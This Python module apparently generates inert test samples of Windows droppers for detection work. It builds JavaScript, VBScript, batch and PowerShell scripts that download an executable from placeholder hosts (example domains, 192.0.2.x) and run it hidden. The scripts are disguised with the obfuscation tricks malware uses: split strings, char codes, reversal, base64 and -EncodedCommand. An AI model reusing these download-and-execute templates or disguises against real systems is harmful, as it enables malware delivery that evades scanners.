"""Inert droppers drawn by chance: the same few actions under the disguises that malware writes, with addresses of nobody."""

from __future__ import annotations

import base64
import random
import string
from collections.abc import Callable

HOSTS = ("one.example.com", "two.example.org", "three.example.net", "four.example.com", "five.example.org")


def word(draw: random.Random, least: int = 4, most: int = 10) -> str:
    """A name of small letters."""
    return "".join(draw.choices(string.ascii_lowercase, k=draw.randint(least, most)))


def site(draw: random.Random, host: str) -> str:
    """An address in a folder of web site software, without a file's name."""
    last = "".join(draw.choices(string.ascii_letters + string.digits, k=draw.randint(4, 14)))
    return f"http://{host}/{draw.choice(('wp-content', 'wp-includes', 'wp-admin', 'cgi-bin'))}/{last}/"


def sites(draw: random.Random) -> list[str]:
    """Three to five of them."""
    return [site(draw, host) for host in HOSTS[: draw.randint(3, 5)]]


def number(draw: random.Random) -> str:
    """An address of a bare number, for documentation."""
    return f"http://192.0.2.{draw.randint(1, 254)}/{word(draw)}.dat"


def _pieces(draw: random.Random, text: str) -> list[str]:
    cuts = sorted(draw.sample(range(1, len(text)), min(len(text) - 1, draw.randint(2, 6))))
    return [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]


def js_added(draw: random.Random, text: str) -> str:
    return "+".join(f"'{piece}'" for piece in _pieces(draw, text))


def js_hex(draw: random.Random, text: str) -> str:
    return '"' + "".join(f"\\x{ord(letter):02x}" for letter in text) + '"'


def js_numbers(draw: random.Random, text: str) -> str:
    return "String.fromCharCode(" + ",".join(str(ord(letter)) for letter in text) + ")"


def js_backwards(draw: random.Random, text: str) -> str:
    return f'"{text[::-1]}".split("").reverse().join("")'


def js_separator(draw: random.Random, text: str) -> str:
    separator = "".join(draw.choices("QZXJ", k=draw.randint(3, 6)))
    return f'"{separator.join(text)}".split("{separator}").join("")'


def js_base64(draw: random.Random, text: str) -> str:
    return f"{word(draw)}('{base64.b64encode(text.encode()).decode()}')"


JAVASCRIPT: tuple[Callable[[random.Random, str], str], ...] = (js_added, js_hex, js_numbers, js_backwards, js_separator, js_base64)


def vbs_added(draw: random.Random, text: str) -> str:
    return " & ".join(f'"{piece}"' for piece in _pieces(draw, text))


def vbs_numbers(draw: random.Random, text: str) -> str:
    return " & ".join(f"{draw.choice(('Chr', 'ChrW', 'chr'))}({ord(letter)})" for letter in text)


def vbs_backwards(draw: random.Random, text: str) -> str:
    return f'StrReverse("{text[::-1]}")'


def vbs_separator(draw: random.Random, text: str) -> str:
    separator = "".join(draw.choices("QZXJ", k=draw.randint(3, 6)))
    return f'Replace("{separator.join(text)}", "{separator}", "")'


VBSCRIPT: tuple[Callable[[random.Random, str], str], ...] = (vbs_added, vbs_numbers, vbs_backwards, vbs_separator)


def javascript(draw: random.Random, urls: list[str], disguise: Callable[[random.Random, str], str]) -> str:
    """A JavaScript for Windows that tries *urls* in turn."""
    a, b, c, p, u = (f"{word(draw)}{number}" for number in range(5))
    hidden = [
        disguise(draw, text)
        for text in ("WScript.Shell", "MSXML2.XMLHTTP", "ADODB.Stream", "SaveToFile", "Run", "GET", "%TEMP%\\x.exe")
    ]
    shell, http, stream, save, run, get, path = hidden
    listed = ", ".join(disguise(draw, url) for url in urls)
    return (
        f"var {u} = [{listed}];\nvar {a} = new ActiveXObject({shell}), {b} = new ActiveXObject({http});\n"
        f"var {c} = new ActiveXObject({stream});\n"
        f"var {p} = {path};\nfor (var i in {u}) try {{ {b}.open({get}, {u}[i], false); {b}.send();\n"
        f"{c}.Open(); {c}.Type = 1; {c}.Write({b}.responseBody); {c}[{save}]({p}, 2);\n"
        f"{a}[{run}]({p}, 0, false); break; }} catch (e) {{}}\n"
    )


def vbscript(draw: random.Random, urls: list[str], disguise: Callable[[random.Random, str], str], run: str) -> str:
    """A VBScript that tries *urls* in turn and starts what it got by *run*."""
    a, b, c, p, u = (f"{word(draw)}{number}" for number in range(5))
    shell, http, stream, start = (disguise(draw, text) for text in ("WScript.Shell", "MSXML2.ServerXMLHTTP", "ADODB.Stream", run))
    listed = ", ".join(disguise(draw, url) for url in urls)
    return (
        f"On Error Resume Next\nSet {a} = CreateObject({shell})\nSet {b} = CreateObject({http})\nSet {c} = CreateObject({stream})\n"
        f'{p} = {a}.ExpandEnvironmentStrings("%TEMP%") & "\\{word(draw)}.dll"\nFor Each {u} In Array({listed})\n'
        f'{b}.Open "GET", {u}, False : {b}.Send : {c}.Type = 1 : {c}.Open : {c}.Write {b}.ResponseBody : {c}.SaveToFile {p}, 2\n'
        f"{a}.Run {start} & {p}, 0 : Exit For\nNext\n"
    )


def batch_cut(draw: random.Random, command: str) -> str:
    """*command* of small letters as a batch file that picks each letter out of an alphabet."""
    letters = list(string.ascii_letters)
    draw.shuffle(letters)
    name, alphabet = word(draw), "".join(letters)
    picked = "".join(f"%{name}:~{alphabet.index(letter)},1%" if letter in alphabet else letter for letter in command)
    return f"@echo off\nset {name}={alphabet}\n{picked}\n"


def batch_carets(draw: random.Random, command: str) -> str:
    return "@echo off\n" + "".join(f"^{letter}" if letter.isalpha() else letter for letter in command) + "\n"


def encoded(draw: random.Random, command: str) -> str:
    """*command* as cmd hands it to PowerShell in base64."""
    switch = draw.choice(("-e", "-ec", "-en", "-enc", "-Encoded", "-EncodedCommand", "/enc"))
    return f"powershell -nop {switch} {base64.b64encode(command.encode('utf-16-le')).decode()}"


def powershell(draw: random.Random, url: str) -> str:
    """A PowerShell that fetches a program and starts it out of sight, its words in back-ticks, pieces and places."""
    fetch = draw.choice(("\"{1}{0}\" -f 'dFile','Downloa'", "'Down'+'load'+'File'", '"D`own`lo`adF`ile"', "'DownloadFile'"))
    return (
        f"$c = &('new-ob'+'ject') ('Net.Web'+'Client'); $p = \"$env:TEMP\\{word(draw)}.exe\"; $c.({fetch})('{url}', $p); "
        "S`tart-Pro`cess $p -WindowStyle Hidden"
    )
